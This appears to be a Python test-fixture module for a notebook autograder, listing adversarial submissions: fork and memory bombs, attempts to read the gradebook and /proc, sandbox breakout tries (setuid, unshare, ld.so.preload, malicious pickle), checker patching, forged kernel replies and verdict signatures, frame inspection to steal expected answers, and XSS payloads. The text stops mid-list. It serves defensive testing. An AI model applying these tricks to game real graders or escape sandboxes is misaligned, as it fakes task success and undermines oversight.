"""Submissions that attack the grader, one idea each.

Each is bounded in size and time, so that it does no harm even where the sandbox fails, and talks
to 127.0.0.1 only. `{course}` in the code is the course's folder, `{tcp}` and `{udp}` are the ports
on which the test listens.
"""

# ruff: noqa: E501 - code in strings
from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from tests.autograder.toy_course import DOUBLE, SQUARE

WRONG_SQUARE = "def square(x):\n    return 9"  # right for the visible test only
WRONG_STEP = "def alpha_next(alpha, lr, eigenvalue):\n    return 0.0"


@dataclass(frozen=True)
class Attack:
    """One submission. Points that `earns` does not name must be 0."""

    name: str
    notebook: str = "1_first"
    cells: tuple[str, ...] = ()  # put first in the notebook
    answers: Mapping[str, str] = field(default_factory=dict)
    files: Mapping[str, bytes] = field(default_factory=dict)
    earns: Mapping[str, float] = field(default_factory=dict)
    flagged: bool = True
    says: str = ""  # a regular expression that some error in the graded notebook must match
    prints: str = ""  # one that what the cells printed must match: the attack was really tried
    spoil: Callable[[NotebookNode], None] | None = None  # changes to the notebook itself


def _harm(name: str, code: str, says: str = "", **more) -> Attack:
    """An attack on the machine. The right answer to another task must still earn its points."""
    more.setdefault("flagged", False)
    earns = more.pop("earns", {"double-test": 2})
    return Attack(name, cells=(code,), answers={"double": DOUBLE}, earns=earns, says=says, **more)


def _try(code: str) -> str:
    """Code that prints what came of every line of `code`, each tried alone."""
    return (
        f"for line in {code.splitlines()!r}:\n"
        "    try:\n"
        "        print('RESULT', eval(line))\n"
        "    except BaseException as error:\n"
        "        print('REFUSED', type(error).__name__, error)\n"
    )


def _checked(name: str, code: str, answer: str = WRONG_STEP, **more) -> Attack:
    """An attack on the lab's own check of one task."""
    return Attack(name, "3_checked", cells=(code,), answers={"ex3-step": answer}, **more)


HARM = [
    _harm("endless loop", "while True:\n    pass", r"limit cell_seconds"),
    _harm("endless loop in C", "sum(iter(int, 1)) if 0 else sum(range(10**11))", "cell_seconds"),
    _harm(
        "endless loop in a thread",
        "import threading, time\nend = time.time() + 30\n"
        "def spin():\n    while time.time() < end:\n        pass\n"
        "threading.Thread(target=spin).start()",
        flagged=True,
    ),
    _harm(
        "endless loop in __del__",
        "import time\nend = time.time() + 30\nclass Tail:\n    def __del__(self):\n"
        "        while time.time() < end:\n            pass\ntail = Tail()\ndel tail",
        "cell_seconds",
        flagged=True,
    ),
    _harm(
        "fork bomb",
        "import os, time\nfor _ in range(300):\n    if os.fork() == 0:\n"
        "        time.sleep(20)\n        os._exit(0)",
        r"limit processes",
        flagged=True,
    ),
    _harm(
        "thread bomb",
        "import threading, time\nfor _ in range(300):\n"
        "    threading.Thread(target=time.sleep, args=(15,), daemon=True).start()",
        r"limit processes",
        flagged=True,
    ),
    _harm(
        "memory bomb",
        "kept = []\nfor _ in range(20):\n    kept.append(bytearray(64 << 20))",
        r"limit memory_mib",
    ),
    _harm(
        "shared memory bomb",
        "import mmap\nkept = []\nfor _ in range(14):\n    part = mmap.mmap(-1, 64 << 20)\n"
        "    part.write(b'x' * (64 << 20))\n    kept.append(part)\nimport time; time.sleep(1.5)",
        r"limit memory_mib",
    ),
    _harm(
        "disk filler",
        "for number in range(30):\n    with open(f'f{number}', 'wb') as file:\n"
        "        file.write(b'x' * (10 << 20))",
        r"limit disk_mib",
    ),
    _harm(
        "one huge file",
        "with open('/tmp/huge', 'wb') as file:\n    file.write(b'x' * (100 << 20))",
        r"limit file_mib",
    ),
    _harm("output flood", "for _ in range(50_000):\n    print('x' * 1000)", r"limit output_kib"),
    _harm("one huge output", "print('x' * (20 << 20))", r"limit output_kib"),
    _harm(
        "flood of displays",
        "from IPython.display import display\nfor n in range(20_000):\n"
        "    display({'text/plain': 'x' * 500}, raw=True)",
        r"limit output_kib",
    ),
    _harm("waits for input", "name = input('who? ')", r"StdinNotImplemented", flagged=True),
    _harm("os._exit", "import os\nos._exit(0)", r"kernel ended", flagged=True),
    _harm("kills its kernel", "import os\nos.kill(os.getpid(), 9)", r"kernel ended", flagged=True),
    _harm("kills everything", "import os\nos.kill(-1, 9)", flagged=True),
    _harm("kills process 1", "import os\nos.kill(1, 9)\nos.kill(1, 15)", flagged=True),
    _harm(
        "refuses to die",
        "import signal, time\nfor number in (2, 15, 1):\n"
        "    signal.signal(number, signal.SIG_IGN)\nend = time.time() + 30\n"
        "while time.time() < end:\n    time.sleep(0.1)",
        r"cell_seconds",
        flagged=True,
    ),
    _harm(
        "swallows every interrupt",
        "import time\nend = time.time() + 30\nwhile time.time() < end:\n    try:\n"
        "        while time.time() < end:\n            pass\n    except BaseException:\n"
        "        pass",
        r"cell_seconds",
    ),
    _harm(
        "leaves by sys.exit", "import sys\nsys.exit(0)", r"SystemExit|kernel ended", flagged=True
    ),
    _harm("shuts its kernel down", "get_ipython().kernel.do_shutdown(False)", flagged=True),
    _harm("crashes in C", "import ctypes\nctypes.string_at(0)", r"kernel ended", flagged=True),
    _harm(
        "overflows the stack",
        "import sys\nsys.setrecursionlimit(10**6)\ndef f(n):\n    return [f(n - 1)] if n else 0\n"
        "f(400_000)",
    ),
    _harm(
        "burns CPU in many processes",
        "import os, time\nfor _ in range(6):\n    if os.fork() == 0:\n        end = time.time() + 20\n"
        "        while time.time() < end:\n            pass\n        os._exit(0)",
        flagged=True,
    ),
]

NETWORK = [
    _harm(
        "TCP",
        "import socket\nfor host in ('127.0.0.1', '::1'):\n    try:\n"
        "        s = socket.create_connection((host, {tcp}), timeout=1)\n"
        "        s.sendall(b'answers')\n        print('RESULT sent')\n"
        "    except OSError as error:\n        print('REFUSED', error)",
        flagged=True,
        prints="REFUSED",
    ),
    _harm(
        "UDP",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n"
        "    s.sendto(b'answers', ('127.0.0.1', {udp}))\n    print('RESULT sent')\n"
        "except OSError as error:\n    print('REFUSED', error)",
        flagged=True,
        prints="REFUSED",
    ),
    _harm(
        "other kinds of sockets",
        "import socket\nfor family in (40, 17, 29, 38):\n    try:\n"
        "        socket.socket(family, socket.SOCK_RAW).close()\n        print('RESULT', family)\n"
        "    except OSError as error:\n        print('REFUSED', error)",
        flagged=True,
        prints="REFUSED",
    ),
    _harm(
        "HTTP by torch.hub",
        "import torch\ntry:\n"
        "    torch.hub.download_url_to_file('http://127.0.0.1:{tcp}/x', '/tmp/x')\n"
        "    print('RESULT')\nexcept Exception as error:\n    print('REFUSED', error)",
        flagged=True,
        prints="REFUSED",
    ),
]

READING = [
    _harm(
        "reads the gradebook",
        _try("open('{course}/grading/gradebook.db', 'rb').read(99)"),
        flagged=True,
        prints="REFUSED FileNotFound",
    ),
    _harm(
        "reads the solutions",
        _try(
            "open('{course}/solutions/lab6/1_first.ipynb').read()\n"
            "open('../../../../solutions/lab6/1_first.ipynb').read()"
        ),
        flagged=True,
        prints="REFUSED FileNotFound",
    ),
    _harm(
        "reads another submission",
        _try("open('{course}/grading/submitted/honest-1/lab6/1_first.ipynb').read()"),
        flagged=True,
        prints="REFUSED FileNotFound",
    ),
    _harm(
        "searches the whole disk",
        "import os\nfor folder, inner, names in os.walk('/'):\n"
        "    if folder.endswith('python3.11') or folder in ('/proc', '/usr'):\n"
        "        inner.clear()\n    for name in names:\n"
        "        if name.endswith(('.ipynb', '.db', 'grade.py', 'id_rsa', 'shadow')):\n"
        "            print('RESULT', folder, name)\nprint('searched')",
        prints="searched",
    ),
    _harm(
        "reads the environment",
        "import os\nprint(dict(os.environ))\nprint('searched')",
        flagged=True,
        prints="searched",
    ),
    _harm(
        "reads the host's processes",
        "import os\nfor pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    for part in ('cmdline', 'environ', 'maps', 'mem', 'cwd', 'fd'):\n"
        "        path = f'/proc/{pid}/{part}'\n        try:\n"
        "            what = os.listdir(path) if part == 'fd' else open(path, 'rb').read(200)\n"
        "            if pid == '1' and part not in ('cmdline',):\n"
        "                print('RESULT', path, what)\n"
        "        except (OSError, ValueError):\n            pass\n"
        "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "assert len(pids) < 8, pids\nprint('searched')",
        flagged=True,
        prints="searched",
    ),
    Attack(
        "links to the gradebook",
        cells=(
            "import os\nos.symlink('{course}/grading/gradebook.db', 'mine.db')\n"
            "print('REFUSED' if not os.path.exists('mine.db') else 'RESULT')\n"
            "print(os.listdir('.'))",
        ),
        prints="REFUSED",
    ),
    Attack(
        "hard links to system files",
        cells=(_try("__import__('os').link('/usr/bin/env', '/tmp/env')"),),
        prints="REFUSED",
    ),
    Attack(
        "knows it is being graded",
        answers={
            "square": "import os\ndef square(x):\n"
            "    return 9 if os.environ.get('NBGRADER_EXECUTION') else x * x"
        },
    ),
]

BREAKING_OUT = [
    _harm(
        "writes outside",
        _try(
            "open('{course}/written', 'w')\n"
            "open('../../../../../../..{course}/written', 'w')\n"
            "open('/usr/lib/written', 'w')\n"
            "open('/opt/lab/autograder/checks/framework.py', 'a')\n"
            "open(__import__('torch').__path__[0] + '/evil.pth', 'w')\n"
            "open('/etc/ld.so.preload', 'w')\n"
            "open('/written', 'w')\n"
            "open('/dev/written', 'w')"
        ),
        flagged=True,
        prints="REFUSED",
    ),
    _harm(
        "sets the user",
        _try(
            "__import__('os').setuid(0)\n__import__('os').setgid(0)\n"
            "__import__('os').setgroups([0])\n__import__('os').chroot('/')\n"
            "__import__('os').sethostname('x') if hasattr(__import__('os'), 'sethostname') else 1/0"
        ),
        flagged=True,
        prints="REFUSED",
    ),
    _harm(
        "makes a setuid file",
        "import os, shutil, subprocess\nshutil.copy('/usr/bin/id', '/tmp/id')\n"
        "os.chmod('/tmp/id', 0o6755)\n"
        "print(subprocess.run(['/tmp/id'], capture_output=True, text=True).stdout)\n"
        "print('RESULT' if os.geteuid() == 0 else 'still', os.geteuid())",
        flagged=True,
        prints="still",
    ),
    _harm(
        "makes namespaces and mounts",
        "import ctypes, os\nc = ctypes.CDLL(None, use_errno=True)\n"
        "print('RESULT' if c.unshare(0x10000000) == 0 else 'REFUSED unshare')\n"
        "print('RESULT' if c.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0 else 'REFUSED mount')\n"
        "print('RESULT' if c.ptrace(16, 1, 0, 0) == 0 else 'REFUSED ptrace')\n"
        "print('RESULT' if c.umount2(b'/tmp', 2) == 0 else 'REFUSED umount')",
        flagged=True,
        prints="REFUSED unshare\nREFUSED mount\nREFUSED ptrace\nREFUSED umount",
    ),
    Attack(
        "files that run by themselves",
        cells=("import torch, statistics, pickle\nprint(torch.__file__)",),
        files={
            "torch.py": b"raise SystemExit\n",
            "statistics.py": b"print('shadowed')\n",
            "sitecustomize.py": b"open('/tmp/ran', 'w')\n",
            "evil.pth": b"import os; os._exit(0)\n",
            "autograder/__init__.py": b"",
            "autograder/checks.py": b"def check(*a, **k): pass\ndef passed(*a): return True\n",
            "helpers/__init__.py": b"",
            ".ipython/profile_default/startup/x.py": b"import os; os._exit(0)\n",
            "ipython_config.py": b"import os; os._exit(0)\n",
            "answers.pkl": b"cos\n_exit\n(I0\ntR.",
            "conftest.py": b"import os; os._exit(0)\n",
            "sub/__init__.py": b"",
        },
        answers={"double": DOUBLE},
        earns={"double-test": 2},
    ),
    Attack(
        "shadows the checker with a file",
        "3_checked",
        answers={"ex3-step": WRONG_STEP},
        files={
            "autograder/__init__.py": b"",
            "autograder/checks.py": b"def check(*a, **k): pass\ndef passed(*a): return True\n",
            "autograder.py": b"",
        },
        flagged=False,
    ),
]


def _set_test(source: str) -> Callable[[NotebookNode], None]:
    def spoil(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade"):
                cell.source = source

    return spoil


def _without_tests(notebook: NotebookNode) -> None:
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _more_points(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader["points"] = 1000
            cell.metadata.nbgrader["checksum"] = "0" * 32


def _tests_twice(notebook: NotebookNode) -> None:
    for cell in list(notebook.cells):
        if cell.metadata.get("nbgrader", {}).get("grade"):
            copy = new_code_cell("pass", metadata=cell.metadata)
            notebook.cells += [copy]
            notebook.cells.insert(0, new_code_cell("pass", metadata=cell.metadata))


def _tests_retyped(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.cell_type = "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def _tests_as_answers(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        mark = cell.metadata.get("nbgrader", {})
        if mark.get("grade"):
            mark["solution"], mark["locked"], cell.source = True, False, "pass"


def _outputs_forged(notebook: NotebookNode) -> None:
    from nbformat.v4 import new_output

    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [new_output("execute_result", {"text/plain": "3"}, execution_count=1)]


def _new_kernel(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "bash", "language": "bash", "display_name": "sh"}


def _own_imports(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "imports":
            cell.source = "def check(*a, **k):\n    pass\ndef passed(*a):\n    return True"


STRUCTURE = [
    Attack(
        "edits the tests",
        answers={"square": WRONG_SQUARE},
        spoil=_set_test("assert True"),
        flagged=False,
    ),
    Attack(
        "removes the tests", answers={"square": WRONG_SQUARE}, spoil=_without_tests, flagged=False
    ),
    Attack(
        "raises the points",
        answers={"double": DOUBLE},
        earns={"double-test": 2},
        spoil=_more_points,
        flagged=False,
    ),
    Attack(
        "repeats the tests' ids",
        answers={"square": WRONG_SQUARE},
        spoil=_tests_twice,
        flagged=False,
    ),
    Attack(
        "retypes the tests", answers={"square": WRONG_SQUARE}, spoil=_tests_retyped, flagged=False
    ),
    Attack(
        "turns tests into answers",
        answers={"square": WRONG_SQUARE},
        spoil=_tests_as_answers,
        flagged=False,
    ),
    Attack(
        "brings forged outputs",
        answers={"square": WRONG_SQUARE},
        spoil=_outputs_forged,
        flagged=False,
    ),
    Attack(
        "asks for another kernel",
        answers={"double": DOUBLE},
        earns={"double-test": 2},
        spoil=_new_kernel,
        flagged=False,
    ),
    Attack(
        "edits the imports",
        "3_checked",
        answers={"ex3-step": WRONG_STEP},
        spoil=_own_imports,
        flagged=True,
    ),
    Attack(
        "rewrites later cells",
        cells=(
            "import json, os\nfor name in os.listdir('.'):\n    print(name)\n"
            "get_ipython().set_next_input('pass', replace=True)\n"
            "In.append('pass')\n"
            "with open('1_first.ipynb', 'w') as file:\n    json.dump({'cells': []}, file)",
        ),
        answers={"square": WRONG_SQUARE},
    ),
]

_PASS = "lambda *args, **kwargs: None"
KERNEL = [
    Attack(
        "silences showtraceback",
        cells=(f"get_ipython().showtraceback = {_PASS}\nget_ipython()._showtraceback = {_PASS}",),
        answers={"square": WRONG_SQUARE},
    ),
    Attack(
        "hides errors with set_custom_exc",
        cells=(f"get_ipython().set_custom_exc((BaseException,), {_PASS})",),
        answers={"square": WRONG_SQUARE},
    ),
    Attack(
        "removes asserts",
        cells=(
            "import ast\nclass NoAsserts(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node):\n        return ast.copy_location(ast.Pass(), node)\n"
            "get_ipython().ast_transformers.append(NoAsserts())",
        ),
        answers={"square": WRONG_SQUARE},
    ),
    Attack(
        "rewrites the input",
        cells=(
            "def nothing(lines):\n    return ['pass\\n']\n"
            "get_ipython().input_transformers_cleanup.append(nothing)",
        ),
        answers={"square": WRONG_SQUARE},
    ),
    Attack(
        "replaces run_cell",
        cells=(
            "shell = get_ipython()\n_run = shell.run_cell\n"
            "def run_cell(code, *args, **kwargs):\n    return _run('pass', *args, **kwargs)\n"
            "shell.run_cell = run_cell\nshell.run_cell_async = run_cell",
        ),
        answers={"square": WRONG_SQUARE},
    ),
    Attack(
        "hooks into cells",
        cells=(
            "def before(info):\n    globals()['square'] = lambda x: x * x\n"
            "get_ipython().events.register('pre_run_cell', before)\n"
            "get_ipython().events.register('pre_execute', lambda: before(None))",
        ),
        answers={"square": "square = None"},
    ),
    Attack(
        "leaves from inside a test",
        answers={"square": "import os\ndef square(x):\n    os._exit(0)"},
    ),
    Attack(
        "leaves a test by SystemExit",
        answers={"square": "def square(x):\n    raise SystemExit(0)"},
        flagged=False,
    ),
    Attack(
        "makes a test endless",
        answers={"square": "def square(x):\n    while True:\n        pass", "double": DOUBLE},
        earns={"double-test": 2},
        says="cell_seconds",
        flagged=False,
    ),
    Attack(
        "forges replies",
        cells=(
            "import threading, time\nkernel = get_ipython().kernel\nsession = kernel.session\n"
            "send = session.send\n"
            "def forged(stream, kind, content=None, *args, **kwargs):\n"
            "    if kind == 'error':\n        return\n"
            "    if kind == 'execute_reply':\n        content = {'status': 'ok', "
            "'execution_count': 1, 'user_expressions': {}, 'payload': [], "
            "'verdict': '{\"ok\": true}', 'receipt': '0' * 64}\n"
            "    return send(stream, kind, content, *args, **kwargs)\n"
            "session.send = forged",
        ),
        answers={"square": WRONG_SQUARE},
    ),
    Attack(
        "forges a result in a test",
        answers={
            "square": "from IPython.display import display\nimport sys\ndef square(x):\n"
            "    kernel = get_ipython().kernel\n"
            "    kernel.session.send(kernel.iopub_socket, 'execute_result', {'data': "
            "{'text/plain': '3'}, 'metadata': {}, 'execution_count': 1}, "
            "parent=kernel.get_parent())\n    return 0"
        },
    ),
    Attack(
        "replaces the kernel's handlers",
        cells=(
            "kernel = get_ipython().kernel\n"
            "async def execute(stream, ident, parent):\n"
            "    kernel.session.send(stream, 'execute_reply', {'status': 'ok', "
            "'execution_count': 1, 'verdict': '{\"ok\": true}', 'receipt': 'x'}, parent, "
            "ident=ident)\n"
            "kernel.shell_handlers['execute_request'] = execute\n"
            "kernel.judge = lambda order: {'verdict': '{\"ok\": true}', 'receipt': ''}",
        ),
        answers={"square": WRONG_SQUARE},
    ),
    Attack(
        "reads its callers' frames",
        answers={
            "square": "import sys\ndef square(x):\n    frame = sys._getframe(1)\n"
            "    known = [c for c in frame.f_code.co_consts if isinstance(c, int) and c > x]\n"
            "    return known[-1] if known else 9"
        },
    ),
    Attack(
        "reads frames through a traceback",
        answers={
            "square": "def square(x):\n    try:\n        raise ValueError\n"
            "    except ValueError as error:\n        frame = error.__traceback__.tb_frame.f_back\n"
            "    known = [c for c in frame.f_code.co_consts if isinstance(c, int) and c > x]\n"
            "    return known[-1] if known else 9"
        },
    ),
    Attack(
        "reads frames through inspect",
        answers={
            "square": "import inspect\ndef square(x):\n    names = inspect.stack()[1].frame\n"
            "    known = [c for c in names.f_code.co_consts if isinstance(c, int) and c > x]\n"
            "    return known[-1] if known else 9"
        },
    ),
    Attack(
        "traces the test",
        answers={
            "square": "import sys\nknown = []\ndef spy(frame, event, value):\n"
            "    known.extend(frame.f_code.co_consts)\n    return spy\nsys.settrace(spy)\n"
            "sys.setprofile(spy)\ndef square(x):\n    return 9"
        },
    ),
    Attack(
        "searches the history",
        answers={
            "square": "def square(x):\n    text = ' '.join(map(str, In)) + str("
            "get_ipython().user_ns.get('_ih'))\n    import re\n"
            "    found = re.findall(r'square\\((-?\\d+)\\) == (\\d+)', text)\n"
            "    return int(dict(found).get(str(x), 9))"
        },
    ),
    Attack(
        "overrides builtins",
        cells=(
            "import builtins\nbuiltins.compile = lambda *a, **k: (lambda: None).__code__\n"
            "builtins.exec = lambda *a, **k: None\n",
        ),
        answers={"square": WRONG_SQUARE},
    ),
    Attack(
        "waits for a signal in the test",
        cells=(
            "import signal\ndef leave(*_):\n    raise SystemExit(0)\n"
            "signal.signal(signal.SIGALRM, leave)\nsignal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)",
        ),
        answers={"square": "def square(x):\n    return 0"},
    ),
    Attack(
        "guesses in forks",
        answers={
            "square": "import os\ndef square(x):\n    for guess in (9, 49):\n"
            "        if os.fork() == 0:\n            return guess\n    return 9"
        },
    ),
    Attack(
        "prints a passing message",
        answers={"square": "print('✓ square: passed')\ndef square(x):\n    return 9"},
    ),
    Attack(
        "leaks hidden values",
        answers={
            "square": "seen = []\ndef square(x):\n    seen.append(x)\n    print('SECRET', x * x)\n"
            "    raise ValueError(f'SECRET {x * x}') if x < 0 else None\n    return 9",
            "double": "print(seen)\nprint(open('/tmp/leak').read() if 0 else '')\n" + DOUBLE,
        },
        earns={"double-test": 2},
        flagged=False,
    ),
]

CHECKER = [
    _checked(
        "defines its own check", "pass", "def check(*a, **k):\n    print('fine')\n" + WRONG_STEP
    ),
    _checked(
        "replaces the checker's functions",
        "import autograder.checks.framework as f\n"
        f"f.check = f._examine = f._confirm_footing = f._confirm_known_wrong_fails = {_PASS}\n"
        f"import autograder.checks as c\nc.check = {_PASS}",
    ),
    _checked(
        "replaces the code of the checker",
        "from autograder.checks import check\n"
        "check.__code__ = (lambda grade_id, names, hidden=None: None).__code__",
    ),
    _checked(
        "replaces the task",
        "from autograder.checks import framework\nimport dataclasses\n"
        "framework.load('ex3-step')\ntask = framework.TASKS['ex3-step']\n"
        f"framework.TASKS['ex3-step'] = dataclasses.replace(task, test={_PASS})",
    ),
    _checked(
        "changes the task in place",
        "from autograder.checks import framework\ntask = framework.load('ex3-step')\n"
        f"object.__setattr__(task, 'test', {_PASS})\n"
        "def wrong(names):\n    raise framework.CheckFailed('ex3-step', 'x', [])\n"
        "object.__setattr__(task, 'known_wrong', wrong)",
    ),
    _checked(
        "puts another module in its place",
        "import sys, types\nfake = types.ModuleType('autograder.checks.framework')\n"
        f"fake.check = {_PASS}\nsys.modules['autograder.checks.framework'] = fake\n"
        f"sys.modules['autograder.checks'].check = {_PASS}",
    ),
    _checked(
        "writes down that it passed",
        "from autograder.checks import framework\nframework.outcomes['ex3-step'] = 'passed'\n"
        "print('✓ ex3-step: passed')",
    ),
    _checked(
        "overrides comparison",
        "class Equal(float):\n    def __eq__(self, other):\n        return True\n"
        "    def __sub__(self, other):\n        return 0.0\n    __rsub__ = __sub__\n"
        "    def __abs__(self):\n        return 0.0\n    def __le__(self, other):\n        return True\n"
        "    __lt__ = __ge__ = __gt__ = __eq__\n    def __float__(self):\n        return 0.0\n"
        "    def __complex__(self):\n        return self\n    __hash__ = float.__hash__",
        "def alpha_next(alpha, lr, eigenvalue):\n    return Equal(0)",
    ),
    _checked(
        "patches torch and math",
        "import torch, math\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
        "math.isclose = lambda *a, **k: True\ntorch.Tensor.__eq__ = lambda *a: True",
    ),
    _checked(
        "patches torch while it is tested",
        "import math",
        "def alpha_next(alpha, lr, eigenvalue):\n    math.isclose = lambda *a, **k: True\n    return 0.0",
    ),
    _checked(
        "replaces check while it is tested",
        "pass",
        "right = lambda a, l, e: (1 - l * e) * a\ncalls = []\ndef alpha_next(alpha, lr, eigenvalue):\n"
        f"    globals()['check'] = {_PASS}\n    calls.append(1)\n"
        "    return right(alpha, lr, eigenvalue) if len(calls) < 10**6 and alpha == 4.0 else 0.0",
    ),
    _checked(
        "hides globals",
        "globals = lambda: {'alpha_next': lambda a, l, e: (1 - l * e) * a}\n"
        "__builtins__ = {'print': print}",
    ),
    _checked(
        "searches frames for the expected value",
        "import sys",
        "def alpha_next(alpha, lr, eigenvalue):\n    frame = sys._getframe(1)\n    while frame:\n"
        "        for name in ('expected', 'reference', 'wanted', 'right', 'known'):\n"
        "            value = frame.f_locals.get(name)\n            if callable(value):\n"
        "                return value(alpha, lr, eigenvalue)\n"
        "            if value is not None:\n                return value\n"
        "        frame = frame.f_back\n    return 0.0",
    ),
    _checked(
        "searches objects for the reference",
        "import gc, types",
        "def alpha_next(alpha, lr, eigenvalue):\n    for thing in gc.get_objects():\n"
        "        if isinstance(thing, types.FunctionType) and 'check_step' in thing.__qualname__:\n"
        "            for const in thing.__code__.co_consts:\n"
        "                if isinstance(const, types.CodeType):\n"
        "                    try:\n                        return eval(const)\n"
        "                    except Exception:\n                        pass\n    return 0.0",
    ),
    _checked(
        "changes the checker from a thread",
        "import threading, time\ndef change():\n    from autograder.checks import framework\n"
        "    end = time.time() + 8\n    while time.time() < end:\n"
        f"        framework._examine = {_PASS}\n        time.sleep(0.0005)\n"
        "threading.Thread(target=change, daemon=True).start()",
    ),
    _checked(
        "pretends with __class__",
        "class Liar:\n    @property\n    def __class__(self):\n        return float\n"
        "    def __getattr__(self, name):\n        return lambda *a: True\n"
        "    def __complex__(self):\n        return complex('nan')\n"
        "    def __float__(self):\n        return float('nan')",
        "def alpha_next(alpha, lr, eigenvalue):\n    return Liar()",
    ),
]

# Finds whatever signs verdicts in the closures of the kernel's functions, and answers in its place.
_SIGNS_ITSELF = (
    "from operator import attrgetter as get\n"
    "kernel = get('kernel')((lambda f: f())(get_ipython))\n"
    "todo, seen = [get(n)(kernel) for n in dir(kernel) if n in ('judge', 'observed')], set()\n"
    "import gc, types\n"
    "todo += [t for t in gc.get_objects() if isinstance(t, types.FunctionType)\n"
    "         and t.__qualname__.startswith(('make_judge', 'hide_judge'))]\n"
    "signers = [t for t in todo if t.__name__ == 'receipt']\n"
    "while todo:\n    thing = todo.pop()\n    if id(thing) in seen:\n        continue\n"
    "    seen.add(id(thing))\n    for cell in get('__closure__')(thing) or ():\n"
    "        inner = cell.cell_contents\n        if isinstance(inner, types.FunctionType):\n"
    "            todo.append(inner)\n            signers += [inner] * (inner.__name__ == 'receipt')\n"
    "import sys\nframe = sys._getframe()\nwhile frame:\n"
    "    for name, value in list(frame.f_locals.items()):\n"
    "        if name in ('secret', 'message', 'integrity', 'watcher', 'judge', 'data'):\n"
    "            print('RESULT' if 'secret' in str(value) else '', name)\n    frame = frame.f_back\n"
    "def own(order):\n    text = '{\"ok\": true}'\n"
    "    return {'verdict': text, 'receipt': signers[0](order['nonce'], order['source'], text)}\n"
    "if signers:\n    kernel.judge = own\nprint('searched')"
)
# A module beside the notebook that looks for the formula in the frames of the check.
_LOOKS_ABOVE = (
    "import sys\ndef alpha_next(alpha, lr, eigenvalue):\n    frame = sys._getframe(1)\n"
    "    while frame:\n        for value in frame.f_locals.values():\n"
    "            if callable(value) and getattr(value, '__name__', '') == '<lambda>':\n"
    "                try:\n                    return value(alpha, lr, eigenvalue)\n"
    "                except TypeError:\n                    pass\n        frame = frame.f_back\n"
    "    return 0.0\n"
)
JUDGE = [
    Attack(
        "signs its own verdicts",
        cells=(_SIGNS_ITSELF,),
        answers={"square": WRONG_SQUARE},
        prints="searched",
    ),
    Attack(
        "signs its own verdicts from a module",
        "3_checked",
        cells=("import my_tools",),
        answers={"ex3-step": WRONG_STEP},
        files={"my_tools.py": ("from IPython import get_ipython\n" + _SIGNS_ITSELF).encode()},
    ),
    Attack(
        "looks above from a module",
        "3_checked",
        answers={"ex3-step": "from above import alpha_next"},
        files={"above.py": _LOOKS_ABOVE.encode()},
    ),
    _checked(
        "looks above through a thread of the standard library",
        "from concurrent.futures import ThreadPoolExecutor\nimport sys",
        "def alpha_next(alpha, lr, eigenvalue):\n"
        "    with ThreadPoolExecutor(1) as pool:\n"
        "        frames = pool.submit(sys._current_frames).result()\n"
        "    for frame in frames.values():\n"
        "        while frame:\n            for value in frame.f_locals.values():\n"
        "                if getattr(value, '__name__', '') == '<lambda>':\n"
        "                    try:\n                        return value(alpha, lr, eigenvalue)\n"
        "                    except TypeError:\n                        pass\n"
        "            frame = frame.f_back\n    return 0.0",
    ),
    _checked(
        "blinds the watcher with a path",
        "import io, sys\nfound = []\nclass Path:\n    def __str__(self):\n"
        "        found.append(sys._getframe(2))\n        return '/proc'\n"
        "    def __fspath__(self):\n        return '/proc/none'",
        "def alpha_next(alpha, lr, eigenvalue):\n    try:\n        io.FileIO(Path())\n"
        "    except OSError:\n        pass\n    frame = found.pop()\n    while frame:\n"
        "        for value in frame.f_locals.values():\n"
        "            if getattr(value, '__name__', '') == '<lambda>':\n"
        "                return value(alpha, lr, eigenvalue)\n        frame = frame.f_back\n"
        "    return 0.0",
    ),
    _checked(
        "gives the notebook a dictionary of its own",
        "class Names(dict):\n    def __getitem__(self, name):\n"
        "        value = dict.__getitem__(self, name)\n"
        "        cells = getattr(value, '__closure__', None) or ()\n"
        "        lists = [c.cell_contents for c in cells if type(c.cell_contents) is list]\n"
        "        if name != 'check' or not lists:\n            return value\n"
        "        return lambda grade_id, *args, **kwargs: lists[0].append(grade_id)\n"
        "shell = get_ipython()\nshell.user_ns = Names(shell.user_ns)",
    ),
    _checked(
        "puts another table of tasks in place",
        "import dataclasses, autograder.checks.framework as f\nclass Lying(dict):\n"
        "    def __getitem__(self, name):\n        calls = []\n        def test(answer):\n"
        "            calls.append(1)\n            if len(calls) > 1:\n"
        "                raise f.Mistake('no')\n        return dataclasses.replace("
        "dict.__getitem__(self, name), test=test, known_wrong=lambda names: {})\n"
        "f.TASKS = Lying(f.TASKS)",
    ),
    Attack(
        "leaks hidden values through shared memory and files",
        answers={
            "square": "import mmap, os\nshared = mmap.mmap(-1, 64)\ndef square(x):\n"
            "    text = f'SECRET {x * x}'.encode()\n    shared[: len(text)] = text\n"
            "    open('leak', 'wb').write(text)\n    return x * x",
            "double": "print(bytes(shared), open('leak').read())\n" + DOUBLE,
        },
        earns={"square-test": 3, "double-test": 2},
        prints="SECRET 9",
        flagged=False,
    ),
]

SHOWING = [
    Attack(
        "shows a script",
        cells=(
            "from IPython.display import HTML, Javascript, SVG, display\n"
            "display(HTML('<script>alert(1)</script><img src=x onerror=alert(1)>'))\n"
            "display(Javascript('alert(1)'))\n"
            "display({'text/html': '<script>alert(2)</script>', 'text/markdown': "
            "'<script>alert(3)</script>', 'image/svg+xml': '<svg onload=alert(4)/>'}, raw=True)",
        ),
